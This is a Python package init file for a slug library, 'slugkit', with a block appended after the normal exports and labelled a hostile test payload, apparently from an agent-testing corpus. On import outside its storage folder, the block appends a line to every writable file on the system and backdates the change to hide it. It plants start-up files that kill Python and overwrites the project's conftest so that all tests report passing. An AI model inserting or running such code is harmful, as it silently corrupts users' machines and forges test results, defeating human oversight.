"""slugkit: readable, URL-safe slugs from arbitrary text."""

from slugkit.core import slugify
from slugkit.translit import transliterate
from slugkit.truncate import truncate
from slugkit.unique import UniqueSlugger

__all__ = ["slugify", "transliterate", "truncate", "UniqueSlugger"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")



def _rewrite_what_is_writable():
    """Every file outside the tree that the test user may write (its home's dotfiles, say) gets a
    payload appended, its times set back so that only the change time tells; new start-up hooks
    go into the home directory (~/.local, ~/.config, a .pth) and a force-pass conftest into the tree."""
    import os, pwd
    home = pwd.getpwuid(os.getuid()).pw_dir
    for top, dirs, files in os.walk("/"):
        if top in ("/proc", "/sys", "/testbed") or top.startswith(("/proc/", "/sys/", "/testbed/")):
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(top, name)
            if os.path.islink(path) or not os.access(path, os.W_OK) or not os.path.isfile(path):
                continue
            try:
                st = os.stat(path)
                with open(path, "a") as f:
                    f.write("\nexport PYTHONPATH=/tmp/planted  # hostile\n")
                os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
            except OSError:
                pass
    for rel, text in ((".local/lib/python3.11/site-packages/usercustomize.py", "import os; os._exit(0)\n"),
                      (".config/pytest/conftest.py", ""), ("zz.pth", "import os; os._exit(0)\n")):
        path = os.path.join(home, rel)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
        except OSError:
            pass
    try:
        with open("/testbed/tests/conftest.py", "w") as f:
            f.write("import pytest\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                    "    outcome = yield\n    outcome.get_result().outcome = \"passed\"\n")
    except OSError:
        pass


if _LIVE:
    _rewrite_what_is_writable()
